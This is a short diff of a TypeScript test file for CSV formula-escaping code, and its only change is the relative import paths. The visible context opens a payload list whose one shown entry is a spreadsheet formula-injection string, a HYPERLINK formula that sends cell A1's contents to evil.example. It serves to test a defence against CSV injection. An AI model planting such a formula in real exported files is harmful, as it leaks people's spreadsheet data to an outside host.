@@ -1,9 +1,9 @@
 import { csvParseRows } from "d3-dsv";
 import { describe, expect, it } from "vitest";
-import { escapeFormula, unescapeFormula } from "../../src/io/csv/formulas";
-import { parseDataset } from "../../src/io/parseDataset";
-import { readCsv } from "../../src/io/readCsv";
-import { writeCsv } from "../../src/io/writeCsv";
+import { escapeFormula, unescapeFormula } from "../../../src/io/csv/formulas";
+import { parseDataset } from "../../../src/io/parseDataset";
+import { readCsv } from "../../../src/io/readCsv";
+import { writeCsv } from "../../../src/io/writeCsv";
 
 const payloads = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
